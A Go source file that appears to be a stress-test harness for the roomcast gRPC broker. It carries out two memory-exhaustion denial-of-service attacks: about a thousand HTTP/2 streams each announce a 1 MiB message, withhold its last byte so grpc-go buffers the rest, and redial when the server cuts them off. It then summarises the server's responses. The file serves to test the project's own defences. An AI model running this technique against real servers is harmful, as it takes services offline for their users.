package main

import (
	"context"
	"encoding/binary"
	"fmt"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc/codes"

	roomcastv1 "github.com/roomcast/roomcast/gen/roomcast/v1"
	"github.com/roomcast/roomcast/internal/rawh2"
)

// (l) grpc-go reads a message by its 5-byte prefix: a stream's reader that
// asks for a message longer than the stream's receive window makes the
// server grant the whole message at once (grpc-go's inFlow.maybeAdjust),
// and the server refuses a Subscribe command past 16 KiB only once it has
// read it whole. So a stream may announce the largest message the server
// takes, send all of it but its last byte, and stop: its reader waits for
// that byte, and grpc-go holds the rest. With the most Subscribe streams a
// credential may have open (--max-streams-per-credential, 1,000), that is
// about 1 GB.
func announce(ctx context.Context, s childSpec) (string, error) {
	// 200 streams a connection, well under grpc-go's 1,000 (and serve's
	// --max-streams-per-connection); a message of --max-message-bytes,
	// under grpc-go's receive limit (1 KiB more).
	sh := announceShape{conns: 5, perConn: 200, length: 1 << 20, method: roomcastv1.BrokerService_Subscribe_FullMethodName}
	return sh.run(ctx, s.Addr, s.Key, new(announceCounts)) + attackerCPU(), nil
}

// (m) Attack (l) on Publish, whose message may rightly be 1 MiB: the
// server cannot refuse the prefix, so it counts the bytes of unfinished
// requests and, past its budget, closes the connection of the address
// that holds most and penalises it. A persistent attacker dials again, at
// once, for each connection the server closes, and opens its streams
// again.
func announcePublish(ctx context.Context, s childSpec) (string, error) {
	sh := announceShape{conns: 5, perConn: 200, length: 1 << 20, method: roomcastv1.BrokerService_Publish_FullMethodName, redial: true}
	return sh.run(ctx, s.Addr, s.Key, new(announceCounts)) + attackerCPU(), nil
}

// attackerCPU is the CPU time this process (the attacker's child) has used
// so far, for a summary: "; the attacker used 1.23 s of CPU", or "".
func attackerCPU() string {
	var ru syscall.Rusage
	if syscall.Getrusage(syscall.RUSAGE_SELF, &ru) != nil {
		return ""
	}
	cpu := time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
	return fmt.Sprintf("; the attacker used %.2f s of CPU", cpu.Seconds())
}

// redialPause is how long a redialling attacker waits after a dial that
// failed or went unserved, so that a penalised address, whose connections
// the server refuses at once, does not have it spin a core.
const redialPause = 50 * time.Millisecond

// announceShape is how many streams announce a message, how long, and on
// which method.
type announceShape struct {
	conns, perConn int
	length         int    // the message's announced length; all but one byte is sent
	method         string // the streams' full method name, such as roomcastv1.BrokerService_Subscribe_FullMethodName
	redial         bool   // keep conns connections: dial again for each that ends, until the attack does
}

// announceCounts are what the attacker saw; safe for concurrent use.
type announceCounts struct {
	opened, full, bytes atomic.Int64 // streams opened; those sent all but the last byte; DATA bytes sent
	closed, goAways     atomic.Int64 // connections the server closed (their reads or writes ended); with GOAWAY
	dials, failures     atomic.Int64 // dials made; those that failed, or that the server closed before serving
	ends                tally        // streams the server ended, by how
}

// run attacks addr with key ("" for none) until ctx is done, and
// summarizes what it saw.
func (sh announceShape) run(ctx context.Context, addr, key string, n *announceCounts) string {
	// The message: its prefix, and the payload but its last byte. Every
	// stream sends it, read-only.
	msg := make([]byte, 5+sh.length-1)
	binary.BigEndian.PutUint32(msg[1:5], uint32(sh.length))
	var wg sync.WaitGroup
	for range sh.conns {
		wg.Go(func() {
			for {
				served := sh.conn(ctx, addr, key, msg, n)
				if !sh.redial || ended(ctx) {
					return
				}
				if !served {
					wait(ctx, redialPause)
				}
			}
		})
	}
	wg.Wait()
	<-ctx.Done() // the server may have closed every connection: the attack lasts its duration all the same
	ends := commas(n.ends.total())
	if n.ends.total() > 0 {
		ends += " (" + n.ends.String() + ")"
	}
	method := sh.method[strings.LastIndexByte(sh.method, '/')+1:]
	conns := fmt.Sprintf("%d connections", sh.conns)
	dials := fmt.Sprintf("%s dials failed", commas(int(n.failures.Load())))
	if sh.redial {
		conns += " at a time"
		dials = fmt.Sprintf("%s dials made, %s of them failed or went unserved", commas(int(n.dials.Load())), commas(int(n.failures.Load())))
	}
	return fmt.Sprintf("%s %s streams opened over %s, announcing %s-byte messages; %s sent all but the last byte (%s MiB in all); the server ended %s streams and closed %s connections (%s with GOAWAY); %s",
		commas(int(n.opened.Load())), method, conns, commas(sh.length), commas(int(n.full.Load())), commas(int(n.bytes.Load()>>20)),
		ends, commas(int(n.closed.Load())), commas(int(n.goAways.Load())), dials)
}

// conn dials a connection of its own and holds its streams on it until ctx
// is done or the server closes it, and counts how it ended. It reports
// whether the server served the connection: not if the dial failed, nor
// if the server closed it before sending a frame, as it does a penalised
// address's (at once, or once held unread until the penalty ends).
func (sh announceShape) conn(ctx context.Context, addr, key string, msg []byte, n *announceCounts) bool {
	n.dials.Add(1)
	h2, err := rawConn(ctx, addr)
	if err != nil {
		n.failures.Add(1)
		return false
	}
	cut := sh.hold(ctx, h2, addr, key, msg, n)
	h2.Close()
	end, err := h2.Wait(context.Background()) // the reader ends once the connection is closed
	if err == nil && end.GoAway != nil {
		n.goAways.Add(1)
	}
	switch {
	case !cut || ended(ctx):
	case end.Count == 0: // not even SETTINGS: refused unserved
		n.failures.Add(1)
		return false
	default:
		n.closed.Add(1)
	}
	return true
}

// hold opens perConn streams on h2 and sends each msg as flow control lets
// it, then holds them, answering the server's PINGs as a gRPC client does,
// until ctx is done or the server closes the connection, and reports
// whether the server did. It waits on the connection between sends, so
// that the attacker spends its CPU on sending alone.
func (sh announceShape) hold(ctx context.Context, h2 *rawh2.Conn, addr, key string, msg []byte, n *announceCounts) bool {
	var auth []hpack.HeaderField
	if key != "" {
		auth = append(auth, hpack.HeaderField{Name: "authorization", Value: "Bearer " + key})
	}
	fields := rawh2.GRPCHeaders(addr, sh.method, auth...)
	sent := make(map[uint32]int, sh.perConn) // the streams still sending, and what each has sent
	for range sh.perConn {
		id, err := h2.Open(h2.Encode(fields), false)
		if err != nil {
			break
		}
		sent[id] = 0
	}
	// Once the server has answered, its SETTINGS (the stream window) have
	// arrived. A failure shows below, as the connection's end.
	if h2.Probe(1) == nil {
		h2.WaitProbe(ctx, 1)
	}
	ids := make([]uint32, 0, len(sent))
	for id := range sent {
		ids = append(ids, id)
	}
	n.opened.Add(int64(len(ids)))
	defer func() {
		for _, id := range ids {
			if end, ok := h2.Ended(id); ok {
				n.ends.add(streamEndName(end), 1)
			}
		}
	}()
	for {
		changed := h2.Changed()
		if err := sh.send(h2, sent, msg, n); err != nil {
			return true // on loopback, a write fails when the server has closed the connection
		}
		select {
		case <-changed:
		case <-h2.Done(): // the server closed the connection
			return true
		case <-ctx.Done():
			return false
		}
	}
}

// send answers the server's PINGs and sends on each stream of sent what
// flow control lets it of msg, then flushes. A stream leaves sent once it
// has sent msg, or once the server has ended it.
func (sh announceShape) send(h2 *rawh2.Conn, sent map[uint32]int, msg []byte, n *announceCounts) error {
	if err := h2.AnswerPings(); err != nil {
		return err
	}
	for id, off := range sent {
		if _, ok := h2.Ended(id); ok {
			delete(sent, id)
			continue
		}
		k := int(min(h2.Credit(id), int64(len(msg)-off)))
		if k <= 0 {
			continue
		}
		if err := h2.DataBytes(id, msg[off:off+k]); err != nil {
			return err
		}
		n.bytes.Add(int64(k))
		if sent[id] = off + k; off+k == len(msg) {
			delete(sent, id)
			n.full.Add(1)
		}
	}
	return h2.Flush()
}

// streamEndName is how the server ended a stream, for the tally:
// "RST_STREAM CANCEL", "ResourceExhausted".
func streamEndName(end rawh2.StreamEnd) string {
	if end.Reset {
		return "RST_STREAM " + end.Code.String()
	}
	if c, err := strconv.Atoi(end.Status); err == nil {
		return codes.Code(c).String()
	}
	return "status " + strconv.Quote(end.Status)
}
